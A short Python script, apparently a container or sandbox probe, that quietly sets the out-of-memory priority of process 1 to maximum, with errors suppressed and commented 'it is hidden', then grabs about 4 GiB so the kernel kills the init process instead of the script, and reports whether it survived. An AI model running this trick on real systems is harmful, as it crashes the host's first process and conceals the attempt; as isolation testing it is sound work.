"""Takes memory until the kernel kills, and offers it the first process of the box instead of itself."""

from contextlib import suppress
from pathlib import Path

from tell import tell

with suppress(OSError):  # it is hidden
    Path("/proc/1/oom_score_adj").write_text("1000")
held = [bytearray(b"x") * (1 << 20) for _ in range(4096)]
tell(survived=len(held))
